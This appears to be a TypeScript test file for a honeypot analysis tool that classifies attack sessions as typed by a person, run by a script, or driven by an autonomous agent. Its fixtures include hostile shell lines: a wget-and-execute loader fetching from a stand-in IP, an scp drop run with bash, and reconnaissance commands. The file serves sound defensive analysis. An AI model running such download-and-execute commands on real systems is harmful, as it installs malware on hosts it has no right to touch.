/** Which tool an attack used: whether a person typed, and what a machine was. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { attackOf } from '../../tests/fuzz/words.ts';
import type { GatheredAttack } from './attack-row.ts';
import { matchFamilies } from './families.ts';
import { judgeTool } from './tool.ts';

const silent: GatheredAttack = {
  ...attackOf(''),
  ...{ commands: [], downloads: [], files: [], relays: [], requests: [], signatures: [] },
  ...{ user_agents: [], fingerprints: [], some_usernames: [] },
};

/** Commands with the seconds between each and the one before. */
function typed(lines: readonly (readonly [after_s: number, text: string])[]): Partial<GatheredAttack> {
  let ts_us = 0;
  return {
    log_ins: 1,
    actions: { authenticate: 1, input: lines.length },
    commands: lines.map(([after_s, text], index) => {
      ts_us += after_s * 1e6;
      return { ts_us, event_id: String(index), session: 's', text };
    }),
  };
}

function toolOf(more: Partial<GatheredAttack>): string {
  const attack = { ...silent, ...more };
  return judgeTool(attack, matchFamilies(attack)).tool;
}
const rulesOf = (more: Partial<GatheredAttack>): string[] =>
  judgeTool({ ...silent, ...more }, []).evidence.map(({ rule }) => rule);

describe('the tool of an attack', () => {
  const by_hand = typed([
    [0, 'ls'],
    [4, 'cd /opt'],
    [2, 'ls -la'],
    [9, 'cat notes.txt'],
    [3, 'pwd'],
    [14, 'history'],
    [5, 'exit'],
  ]);

  test("is a person where commands look around at a person's pace", () => {
    assert.equal(toolOf(by_hand), 'user command');
  });

  test("is a program where the client is a library and only the pace is a person's", () => {
    const asking = typed([
      [0, '/ip cloud print'],
      [11, 'ifconfig'],
      [2, 'uname -a'],
      [5, 'show ip'],
      [11, 'cat /proc/cpuinfo'],
      [3, 'uptime'],
    ]);
    assert.equal(toolOf(asking), 'user command');
    assert.equal(toolOf({ ...asking, user_agents: ['SSH-2.0-libssh2_1.8.0'] }), 'script or program');
  });

  test('is a person who guessed with a program before', () => {
    assert.equal(toolOf({ ...by_hand, actions: { authenticate: 300, input: 7 } }), 'user command');
  });

  test('is an agent although it is fast and its lines are long: speed shows a machine, and not which', () => {
    const loader = 'cd /tmp; wget http://192.0.2.7/x.sh; chmod 777 x.sh; sh x.sh; rm -rf x.sh';
    const lines = Array.from({ length: 6 }, (_, index) => [index === 0 ? 0 : 0.1, loader] as const);
    assert.equal(toolOf(typed(lines)), 'autonomous agent');
  });

  test('is an agent where one session brings what another starts', () => {
    const { commands = [] } = typed([
      [0, 'scp -t /tmp/9qR4tw'],
      [2, 'cd /tmp && chmod +x 9qR4tw && bash -c ./9qR4tw'],
    ]);
    const in_two = commands.map((command, index) => ({ ...command, session: String(index) }));
    assert.equal(toolOf({ commands: in_two, log_ins: 2 }), 'autonomous agent');
  });

  test('is no agent where something was fetched and nothing was started', () => {
    assert.equal(toolOf(typed([[0, 'wget http://192.0.2.7/x.sh']])), 'script or program');
    assert.equal(toolOf(typed([[0, 'wget http://192.0.2.7/x.sh; sh y.sh']])), 'script or program');
  });

  test('knows a worm by its serving itself, but not in an inner network', () => {
    const line = typed([[0, 'wget http://203.0.113.1:5511/i']]);
    assert(rulesOf(line).includes('tool.own_host'));
    const inner = typed([[0, 'wget http://10.1.2.3:5511/i']]);
    assert(!rulesOf({ ...inner, attacker_ip: '::ffff:10.1.2.3' }).includes('tool.own_host'));
  });

  test('is not told by a single connection in which nothing was said', () => {
    assert.equal(toolOf({ events: 1, actions: { probe: 1 } }), 'unknown');
    assert.equal(toolOf({ events: 1, actions: { probe: 1 }, requests: ['/'] }), 'script or program');
  });

  test('is a test of a relay where a mail goes to its own sender, and a message where it goes to others', () => {
    const mail = (to: string) => ({
      ...typed([
        [0, 'MAIL FROM:<a@example.com>'],
        [0, `RCPT TO:<${to}>`],
      ]),
      service: 'smtp',
    });
    assert.equal(toolOf(mail('a@example.com')), 'script or program');
    assert.equal(toolOf(mail('b@example.net')), 'information exchange');
  });

  test('is no person where commands are messages of a protocol', () => {
    const calls = typed([
      [0, 'REGISTER'],
      [31, 'REGISTER'],
      [58, 'REGISTER'],
      [44, 'REGISTER'],
    ]);
    assert.equal(toolOf({ ...calls, service: 'sip' }), 'script or program');
  });

  test('has a confidence between nought and one, the larger the more speaks for it', () => {
    const of = (more: Partial<GatheredAttack>) => judgeTool({ ...silent, ...more }, []).confidence;
    const one = of(typed([[0, 'uname -a']]));
    const fast = of(typed(Array.from({ length: 9 }, () => [0.1, 'uname -a'] as const)));
    assert(one > 0 && one < fast && fast < 1, `${one} ${fast}`);
  });
});
